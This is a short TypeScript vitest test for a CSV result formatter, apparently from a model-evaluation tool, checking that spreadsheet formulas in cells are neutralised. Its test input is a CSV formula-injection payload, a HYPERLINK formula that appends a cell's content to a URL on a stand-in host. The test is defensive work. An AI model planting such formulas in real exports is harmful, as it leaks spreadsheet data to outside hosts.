import { describe, expect, it } from 'vitest';
import { formatResult } from './result-format';

describe('formatResult as CSV', () => {
  it('defuses a cell a spreadsheet would run as a formula (a model answer can start with =)', () => {
    const csv = formatResult(
      {
        columns: [
          { name: 'answer', type: 'Utf8' },
          { name: 'f1', type: 'Float64' },
        ],
        rows: [
          ['=HYPERLINK("http://x.example/?"&A1,"open")', 0.5],
          ['a, b', null],
        ],
      },
      'csv',
    );
    expect(csv).toBe('answer,f1\r\n"\'=HYPERLINK(""http://x.example/?""&A1,""open"")",0.5\r\n"a, b",\r\n');
  });
});
